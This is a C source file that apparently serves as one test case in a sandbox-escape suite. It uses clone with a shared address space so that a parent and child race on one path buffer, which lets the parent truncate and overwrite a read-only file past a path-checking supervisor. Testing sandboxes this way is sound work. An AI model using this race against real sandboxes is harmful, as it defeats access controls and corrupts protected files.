/* e0109-clone-vm-scratch - two processes in one address space, two calls
 * in flight, one slot.
 *
 * Attack: clone(CLONE_VM | SIGCHLD) makes a child process (not a thread:
 * the tracer is told "fork") that shares the parent's memory.  Both then
 * put the path of their next open() in one shared buffer and call open()
 * on it: the parent opens a file it may write (O_WRONLY|O_TRUNC), the
 * child a file it may only read.  Natively the shared buffer alone mixes
 * the two up, and the parent truncates and writes the read-only file.  A
 * supervisor that pins each checked path in a scratch slot of the caller
 * is beaten the same way if the two processes end up with the same slot
 * (a fork child inherits its parent's regions at the same addresses:
 * right for a copy of the memory, wrong for shared memory).
 * Source: janus team (doc/races.md: per-thread scratch regions; a fork
 * child "has its own copy"); Watson 2007 (concurrency through shared
 * memory).
 * Usage: e0109-clone-vm-scratch WRITABLE READ-ONLY */
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

static char slot[PATH_MAX];
static const char *writable, *readonly;
static volatile int stop;
static volatile long child_opens;

/* The child: the read-only file, again and again, through the slot. */
static int reader(void *arg)
{
	(void)arg;
	size_t n = strlen(readonly) + 1;
	while (!stop) {
		memcpy(slot, readonly, n);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
		int fd = open(slot, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			child_opens++;
			close(fd);
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0109-clone-vm-scratch WRITABLE READ-ONLY");
	writable = argv[1];
	readonly = argv[2];
	size_t stack_len = 256 * 1024;
	char *stack = mmap(NULL, stack_len, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
	if (stack == MAP_FAILED)
		esc_die("mmap");
	fflush(NULL);
	pid_t pid = clone(reader, stack + stack_len, CLONE_VM | SIGCHLD, NULL);
	esc_show_result("clone(CLONE_VM|SIGCHLD)", pid);
	if (pid < 0)
		return 0;
	struct esc_race r;
	long opened = 0, refused = 0;
	size_t n = strlen(writable) + 1;
	esc_race_init(&r);
	while (esc_race_go(&r)) {
		memcpy(slot, writable, n);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
		int fd = open(slot, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (fd < 0) {
			refused++;
			continue;
		}
		opened++;
		if (write(fd, "PWNED\n", 6) != 6)
			refused++;
		close(fd);
	}
	stop = 1;
	waitpid(pid, NULL, __WALL);
	printf("parent: %ld tries, %ld opened for writing, %ld refused; child: %ld opens\n",
	       r.tries, opened, refused, child_opens);
	return 0;
}
